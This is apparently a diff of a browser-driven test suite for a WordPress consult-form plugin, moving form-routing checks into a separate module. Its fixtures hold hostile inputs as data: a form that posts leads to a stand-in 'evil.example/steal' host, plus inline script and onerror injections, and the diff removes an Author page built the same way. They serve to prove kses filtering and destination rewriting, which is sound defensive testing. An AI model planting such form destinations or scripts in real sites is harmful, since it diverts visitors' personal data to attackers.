@@ -1,6 +1,7 @@
 // The plugin on a real WordPress 6.1 (Debian's packages, default theme Twenty Twenty-Three):
 // pages made through the block path, the classic path (shortcodes through wpautop) and by an
-// Author (kses applied), each checked in Chromium; the settings page; server-rendered FAQ packs;
+// Author (kses applied), each checked in Chromium; form destinations removed when saved by users
+// without unfiltered_html (wordpress/routing.mjs); the settings page; server-rendered FAQ packs;
 // tags typed in a template and in classic widgets.
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
@@ -8,14 +9,14 @@ import { cpSync, existsSync, mkdirSync, readFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { ROOT, checkConsultForm, checkFaq, checkGallery, checkNextDue, checkSlider, launch, recordConsole, startServer, waitForUpgrade } from './helpers.mjs';
-import { ensurePackages, startWordPress } from './wordpress/site.mjs';
+import { describeRouting, routingPhp } from './wordpress/routing.mjs';
+import { ensurePackages, phpString, startWordPress } from './wordpress/site.mjs';
 
 const PLUGIN = resolve(ROOT, process.env.BLUSH_WP_OUT ?? 'dist', 'wordpress/blush-widgets');
 const SHOTS = process.env.BLUSH_WP_SHOTS ?? join(ROOT, 'dist/wordpress-screenshots');
 const ACCENT = '#0a6e62';
 const PHONE = '(310) 555-0142';
 const log = (line) => console.log(`# ${line}`);
-const EVIL = 'https://evil.example/steal';
 
 /** A last treatment 60 days before today on this machine's clock: the next one is always ahead. */
 const LAST_TREATMENT = (() => {
@@ -96,11 +97,6 @@ before(async () => {
     '<blush-consult-form action="https://evil.example/steal" headers=\'{"X-Steal":"1"}\' success-url="https://evil.example/"></blush-consult-form>',
     '<script>window.__evil = 1</script><img src="x" onerror="window.__evil=1" alt="" />',
   ].join('\n\n');
-  // Form destinations in a shortcode and in a block's attributes, which kses does not read.
-  const routingPage = (action, success) => [
-    `<!-- wp:shortcode -->\n[blush_consult_form action="${action}" success_url="${success}" class="from-shortcode"]\n<!-- /wp:shortcode -->`,
-    `<!-- wp:blush/consult-form {"action":"${action}","success_url":"${success}","class":"from-block"} /-->`,
-  ].join('\n\n');
   // A category archive whose template (edited in the site editor) has tags in a Custom HTML block.
   const template = readFileSync('/usr/share/wordpress/wp-content/themes/twentytwentythree/templates/archive.html', 'utf8').replace(
     '<!-- wp:query ',
@@ -121,9 +117,8 @@ before(async () => {
       'block' => $make('Botox (blocks)', ${phpString(blockPage)}, 1),
       'classic' => $make('Botox (classic)', ${phpString(classicPage)}, 1),
       'author' => $make('Botox (author)', ${phpString(authorPage)}, $author, 'post'),
-      'authorRouting' => $make('Consultations (author)', ${phpString(routingPage(EVIL, 'https://evil.example/thanks'))}, $author, 'post'),
-      'adminRouting' => $make('Consultations (admin)', ${phpString(routingPage(`${endpoint.url}/wp-leads-admin`, `${site.url}/thank-you/`))}, 1),
     );
+    ${routingPhp({ endpoint: endpoint.url, site: site.url })}
     $news = wp_insert_term('Clinic news', 'category', array('slug' => 'clinic-news'));
     $newsPost = $make('New opening hours', 'We now open on Saturdays.', 1, 'post');
     wp_set_post_categories($newsPost, array($news['term_id']));
@@ -136,6 +131,7 @@ before(async () => {
       $out[$key] = array('id' => $id, 'url' => get_permalink($id), 'stored' => get_post($id)->post_content);
     }
     $out['archive'] = array('url' => get_category_link($news['term_id']));
+    $out += $routing;
     echo wp_json_encode($out);
   `);
   pages = JSON.parse(created.slice(created.indexOf('{')));
@@ -148,10 +144,6 @@ after(async () => {
   await site?.stop();
   await endpoint?.close();
 });
-
-function phpString(text) {
-  return `'${text.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'`;
-}
 
 async function open(key, options = {}) {
   const page = await browser.newPage({ viewport: { width: 1280, height: 900 }, ...options });
@@ -287,29 +279,9 @@ describe('as an Author (no unfiltered_html: kses applies)', () => {
     assert.equal(await page.evaluate(() => window.__evil), undefined);
     assert.deepEqual(console.pageErrors, []);
   });
-  it("an Author's shortcode and block send to the clinic's endpoint, not the action and success_url they set", async () => {
-    assert.ok(pages.authorRouting.stored.includes(EVIL), 'kses removed the action itself: this case would prove nothing');
-    const forms = await renderedForms(pages.authorRouting.url);
-    assert.deepEqual(forms, [
-      { class: 'from-shortcode', action: `${endpoint.url}/wp-leads`, success: null },
-      { class: 'from-block', action: `${endpoint.url}/wp-leads`, success: null },
-    ]);
-  });
-  it("an administrator's shortcode and block keep their own action and success_url", async () => {
-    const forms = await renderedForms(pages.adminRouting.url);
-    assert.deepEqual(forms, [
-      { class: 'from-shortcode', action: `${endpoint.url}/wp-leads-admin`, success: `${site.url}/thank-you/` },
-      { class: 'from-block', action: `${endpoint.url}/wp-leads-admin`, success: `${site.url}/thank-you/` },
-    ]);
-  });
 });
 
-/** The `<blush-consult-form>` tags of a page as the server sent them. */
-async function renderedForms(url) {
-  const html = await (await fetch(url)).text();
-  const attribute = (tag, name) => tag.match(new RegExp(`\\s${name}="([^"]*)"`))?.[1] ?? null;
-  return [...html.matchAll(/<blush-consult-form\b[^>]*>/g)].map(([tag]) => ({ class: attribute(tag, 'class'), action: attribute(tag, 'action'), success: attribute(tag, 'success-url') }));
-}
+describeRouting(() => ({ pages, endpoint, site }));
 
 describe('tags outside post content', () => {
   it('a Custom HTML block in a category archive template loads the script once and works', async () => {
@@ -327,7 +299,7 @@ describe('tags outside post content', () => {
   });
   for (const [widget, instance] of [
     ['WP_Widget_Custom_HTML', { title: '', content: '<blush-consult-form></blush-consult-form>' }],
-    ['WP_Widget_Text', { title: '', text: `[blush_consult_form action="${EVIL}"]`, filter: true, visual: true }],
+    ['WP_Widget_Text', { title: '', text: '[blush_consult_form]', filter: true, visual: true }],
   ]) {
     it(`a classic ${widget} enqueues the script and its form sends to the settings endpoint`, () => {
       const printed = site.php(`
@@ -338,7 +310,6 @@ describe('tags outside post content', () => {
       const out = JSON.parse(printed.slice(printed.indexOf('{')));
       assert.equal(out.enqueued, true, `script not enqueued for ${out.html}`);
       assert.match(out.html, new RegExp(`<blush-consult-form[^>]* action="${endpoint.url}/wp-leads"`));
-      assert.ok(!out.html.includes('evil.example'), out.html);
     });
   }
 });
